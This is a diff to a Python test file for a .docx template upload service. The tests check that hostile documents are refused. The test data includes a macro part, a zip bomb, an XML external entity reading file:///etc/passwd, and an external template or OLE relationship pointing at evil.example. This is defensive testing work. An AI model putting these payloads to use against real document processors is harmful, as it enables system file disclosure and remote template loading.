@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 from docx import Document
 
+from models.values.template_flaw import TemplateFlaw
 from services.documents import docx_templates
 from services.documents.sample_order import sample
 from services.documents.template_variables import variables
@@ -19,6 +20,7 @@ from services.documents.template_variables import variables
 KNOWN = variables({"kitchen_type": "Тип кухни", "wishes": "Пожелания"})
 FIELDS = {"kitchen_type": "угловая", "wishes": "тихие часы"}
 DATA = sample(FIELDS)
+RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
 
 
 def written(*paragraphs: str, header: str = "") -> bytes:
@@ -208,7 +210,7 @@ async def test_files_that_are_no_documents_are_refused() -> None:
 async def test_programs_bombs_and_strangers_inside_are_refused() -> None:
     good = written("{{ client.name }}")
     macro = repacked(good, lambda _name, body: body, **{"word/vbaProject.bin": b"x"})
-    assert (await refused(macro)).code == "docx.macros"
+    assert [one.kind for one in (await refused(macro)).flaws] == ["macro"]
     bomb = repacked(good, lambda _name, body: body, **{"word/media/zeros.bin": bytes(61 * 1024 * 1024)})
     assert len(bomb) < 1024 * 1024
     assert (await refused(bomb)).code == "docx.bomb"
@@ -216,12 +218,15 @@ async def test_programs_bombs_and_strangers_inside_are_refused() -> None:
     assert (await refused(crowd)).code == "docx.bomb"
     entities = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
     laughs = repacked(good, lambda name, body: entities + body if name == "word/document.xml" else body)
-    assert (await refused(laughs)).code == "docx.entities"
+    told = await refused(laughs)
+    assert told.code == "docx.unsafe" and told.flaws == (TemplateFlaw("doctype", "word/document.xml", "x"),)
     link = (
-        b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="http://x/oleObject" '
+        "TargetMode='External'  Target='https://evil.example/t.dotm'/></Relationships>"
     )
-    outside = repacked(good, lambda _name, body: body, **{"word/_rels/settings.xml.rels": link})
-    assert (await refused(outside)).code == "docx.outside"
+    outside = repacked(good, lambda _name, body: body, **{"word/_rels/settings.xml.rels": link.encode()})
+    told = await refused(outside)
+    assert told.flaws == (TemplateFlaw("object", "word/settings.xml", "https://evil.example/t.dotm"),)
 
 
 def test_the_worker_lives_under_its_limits() -> None:
